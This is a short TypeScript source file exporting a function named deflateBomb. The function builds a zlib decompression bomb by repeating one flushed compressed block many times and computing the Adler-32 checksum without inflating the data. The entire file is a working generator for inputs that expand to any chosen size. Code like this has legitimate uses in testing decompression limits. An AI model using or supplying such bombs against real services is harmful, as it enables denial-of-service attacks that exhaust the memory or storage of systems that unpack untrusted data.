// Makes zlib data that is small and unpacks to any size, in no time: one compressed block, said again and again.
import { constants, deflateRawSync } from "node:zlib";

const blockBytes = 1 << 20;
const adlerModulus = 65_521;

/** `pattern` repeated until `bytes` are full, rounded up to whole blocks of about 1 MB. */
export function deflateBomb(pattern: string, bytes: number): Buffer {
  const block = Buffer.from(pattern.repeat(Math.ceil(blockBytes / pattern.length)), "latin1");
  // A full flush ends at a byte and forgets what went before, so that the block can stand anywhere.
  const packed = deflateRawSync(block, { level: 9, finishFlush: constants.Z_FULL_FLUSH });
  const times = Math.ceil(bytes / block.length);
  const end = Buffer.from([0x03, 0x00]);
  const pieces = [Buffer.from([0x78, 0xda]), ...Array.from({ length: times }, () => packed), end];
  return Buffer.concat([...pieces, adlerOf(block, times)]);
}

/** The checksum at the end, without going through all of it: a block adds the same to the sums each time. */
function adlerOf(block: Buffer, times: number): Buffer {
  let plain = 0;
  let weighted = 0;
  for (const byte of block) {
    plain = (plain + byte) % adlerModulus;
    weighted = (weighted + plain) % adlerModulus;
  }
  let low = 1;
  let high = 0;
  for (let turn = 0; turn < times; turn += 1) {
    high = (high + weighted + low * block.length) % adlerModulus;
    low = (low + plain) % adlerModulus;
  }
  const sum = Buffer.alloc(4);
  sum.writeUInt16BE(high, 0);
  sum.writeUInt16BE(low, 2);
  return sum;
}
